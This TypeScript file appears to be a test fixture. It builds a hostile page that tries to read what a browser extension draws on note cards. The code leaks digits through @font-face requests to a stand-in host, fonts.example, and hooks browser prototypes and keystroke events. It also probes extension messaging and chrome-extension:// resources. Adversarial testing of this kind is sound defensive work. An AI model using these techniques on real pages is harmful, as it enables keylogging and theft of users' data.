/** What a page against us has got hold of, by attempt: texts that it has read. */
export type Loot = Record<string, string[]>;

export const FONT_HOST = 'https://fonts.example';

const FAMILIES = [
  'system-ui',
  'sans-serif',
  'serif',
  'monospace',
  'ui-sans-serif',
  '-apple-system',
  'BlinkMacSystemFont',
  'Arial',
  'Helvetica',
  'Helvetica Neue',
  'Segoe UI',
  'Roboto',
  'DejaVu Sans',
  'Liberation Sans',
  'PingFang SC',
  'Microsoft YaHei',
  'Noto Sans',
  'Noto Sans CJK SC',
  'WenQuanYi Zen Hei',
  'Inter',
];

/** One font per digit and family: which are fetched says which digits are drawn. */
const FONTS = FAMILIES.flatMap((family) =>
  Array.from(
    { length: 10 },
    (_, digit) =>
      `@font-face{font-family:"${family}";src:url(${FONT_HOST}/${encodeURIComponent(family)}/${digit});unicode-range:U+3${digit}}`,
  ),
).join('\n');

/** Every name that a property could have is declared and set, to a number of the page's own. */
const properties = (names: readonly string[]) =>
  names
    .map((name) => `@property ${name}{syntax:"*";inherits:true;initial-value:"666"}*{${name}:"666"!important}`)
    .join('\n');

/** Our hosts by tag, by attribute and by `*`. */
const RESTYLED = ['div:empty', '[style]:empty', '.note-item *:empty', '*:empty:not(a,link,meta,script,iframe)']
  .map(
    (selector) =>
      `${selector}{all:revert!important;position:static!important;display:inline-block!important;width:max-content!important;height:auto!important;contain:none!important;overflow:visible!important;font:40px monospace!important}`,
  )
  .join('\n');

export interface HostileOptions {
  /** Custom property names to set. */
  properties: readonly string[];
  /** Whether the page restyles our hosts. */
  restyle: boolean;
  /** Whether it knows the extension's id, the worst case. */
  extensionId: string;
}

/** The head of a page that does all it can to read or to forge what is drawn on it. */
export function hostileHead(options: HostileOptions): string {
  const css = `${FONTS}\n${properties(options.properties)}\n${options.restyle ? RESTYLED : ''}`;
  return `<style>${css}</style><script>(${attack.toString()})(${JSON.stringify(options)})</script>`;
}

/** Runs in the page, before anything of the extension's does. */
function attack({ extensionId }: { extensionId: string }): void {
  const loot: Record<string, string[]> = {};
  const take = (attempt: string, text: unknown) => {
    loot[attempt] = [...(loot[attempt] ?? []), String(text)];
  };
  const badges = () =>
    [...document.querySelectorAll<HTMLElement>('.note-item *')].filter(
      (one) => !one.closest('a, .footer') && one.matches('div:empty'),
    );
  const hosts = () => [...badges(), ...document.querySelectorAll<HTMLElement>('html > div')];

  const wrap = (owner: object, name: string) => {
    const original: unknown = Reflect.get(owner, name);
    if (typeof original !== 'function') return;
    Reflect.set(owner, name, function (this: unknown, ...args: unknown[]) {
      for (const arg of args) if (typeof arg === 'string' && /\d/.test(arg) && arg.length < 2_000) seen.add(arg);
      return Reflect.apply(original, this, args);
    });
  };
  const seen = new Set<string>();
  for (const name of [
    'attachShadow',
    'setAttribute',
    'append',
    'replaceChildren',
    'insertAdjacentHTML',
    'toggleAttribute',
  ])
    wrap(Element.prototype, name);
  for (const name of ['appendChild', 'insertBefore']) wrap(Node.prototype, name);
  for (const name of ['parse', 'stringify']) wrap(JSON, name);
  for (const name of ['dispatchEvent', 'addEventListener']) wrap(EventTarget.prototype, name);
  for (const name of ['replaceSync', 'insertRule']) wrap(CSSStyleSheet.prototype, name);
  wrap(window, 'fetch');
  wrap(window, 'postMessage');

  navigation.addEventListener('navigate', ({ destination }) => take('navigate', destination.url));
  addEventListener('click', (event) => event.preventDefault());
  addEventListener('message', ({ data }) => {
    if (!data?.question) take('messages', JSON.stringify(data));
  });

  const typed: string[] = [];
  for (const type of ['keydown', 'beforeinput', 'input'])
    addEventListener(
      type,
      (event) => typed.push(String(Reflect.get(event, 'key') ?? Reflect.get(event, 'data'))),
      true,
    );

  const describe = (element: Element): string => {
    const attributes = element.getAttributeNames().map((name) => `${name}=${element.getAttribute(name)}`);
    const drawn = ['::before', '::after', null].map((part) => getComputedStyle(element, part).content);
    const inner = element.shadowRoot ? [...element.shadowRoot.querySelectorAll('*')].map(describe) : [];
    return [element.textContent, element.ariaLabel, ...attributes, ...drawn, ...inner].join(' ');
  };
  const boxes = () =>
    badges().map((host) => {
      const { width, height } = host.getBoundingClientRect();
      return JSON.stringify([
        width,
        height,
        host.offsetWidth,
        host.scrollWidth,
        host.scrollHeight,
        host.getClientRects().length,
      ]);
    });

  const run = async () => {
    for (const host of hosts()) take('dom', describe(host));
    for (const text of seen) take('prototypes', text);
    for (let at = 0; at < window.length; at += 1) take('frames', window[at]?.document.body.textContent);
    take('typed', typed.join(''));
    for (let number = 10_000; number < 11_000; number += 1)
      for (const text of [String(number), number.toLocaleString('en')]) {
        getSelection()?.removeAllRanges();
        if (Reflect.apply(Reflect.get(window, 'find'), window, [text])) take('find', text);
      }
    document.execCommand('selectAll');
    take('selection', getSelection());
    getSelection()?.removeAllRanges();
    // All cards are alike: boxes that are not tell what is in them.
    if (new Set(boxes()).size > 1) take('boxes', boxes().join());

    for (const host of hosts())
      for (const kind of ['click', 'mousedown', 'pointerdown', 'auxclick', 'dblclick'])
        host.dispatchEvent(new MouseEvent(kind, { bubbles: true, composed: true }));
    await new Promise((resolve) => setTimeout(resolve, 100));
    for (const host of hosts()) take('untrusted', host.outerHTML);

    const card = document.querySelector('.note-item');
    const copy = card?.cloneNode(true);
    if (copy instanceof Element) {
      for (const child of [...copy.children].slice(1)) child.remove();
      card?.after(copy);
      await new Promise((resolve) => setTimeout(resolve, 600));
      take('cards', copy.outerHTML + copy.textContent);
      copy.remove();
    }

    const subjects = [...document.querySelectorAll('[data-id]')].map(
      (one) => `xhs/note/${one.getAttribute('data-id')}`,
    );
    postMessage({ question: 'badges', request: { subjects } }, '*');
    const runtime: unknown = Reflect.get(Reflect.get(window, 'chrome') ?? {}, 'runtime');
    if (runtime && typeof runtime === 'object') {
      const send: unknown = Reflect.get(runtime, 'sendMessage');
      const call = () =>
        typeof send === 'function'
          ? Reflect.apply(send, runtime, [extensionId, { question: 'badges', request: { subjects } }])
          : null;
      try {
        take('messages', JSON.stringify(await call()));
      } catch {
        // Refused.
      }
    }
    for (const path of [
      'manifest.json',
      'icons/icon-16.png',
      'src/content/content.iife.js',
      'src/options/options.html',
    ])
      await fetch(`chrome-extension://${extensionId}/${path}`).then(
        () => take('resources', path),
        () => undefined,
      );
    await new Promise((resolve) => setTimeout(resolve, 200));
    for (const { name } of performance.getEntries())
      if (!name.includes('fonts.example')) take('performance', decodeURIComponent(name));
    return loot;
  };
  Object.assign(window, { run, loot });
}
